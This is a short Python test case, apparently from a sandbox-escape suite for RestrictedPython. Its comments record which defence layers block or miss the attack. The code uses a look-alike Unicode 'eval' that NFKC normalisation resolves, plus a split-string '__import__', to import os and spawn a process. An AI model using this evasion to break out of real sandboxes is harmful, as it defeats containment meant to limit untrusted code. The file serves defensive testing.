# attack: look-alike unicode identifiers
# stops: restrictedpython: Eval calls are not allowed
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython -guards => escaped
# 𝐞val (mathematical bold e): NFKC makes it eval
os = 𝐞val("__imp" + "ort__('os')")
print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
